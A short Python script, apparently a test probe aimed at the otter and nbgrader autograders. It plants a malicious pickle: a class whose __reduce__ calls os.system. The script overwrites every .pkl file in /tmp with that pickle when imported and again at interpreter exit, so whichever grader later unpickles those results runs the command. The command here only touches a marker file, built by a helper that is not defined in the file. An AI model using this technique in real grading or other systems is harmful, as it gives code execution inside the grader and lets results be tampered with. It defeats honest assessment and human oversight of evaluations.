"""Puts a pickle that runs code where otter unpickles its results from, when the kernel ends."""

GROUP = "otter and nbgrader"
import atexit
import glob
import os
import pickle


class Fires:
    def __reduce__(self):
        return (os.system, (f"touch {marked('/tmp')}",))


def plant():
    for path in glob.glob("/tmp/*.pkl"):
        try:
            with open(path, "wb") as file:
                pickle.dump(Fires(), file)
        except OSError:
            pass


plant()
atexit.register(plant)
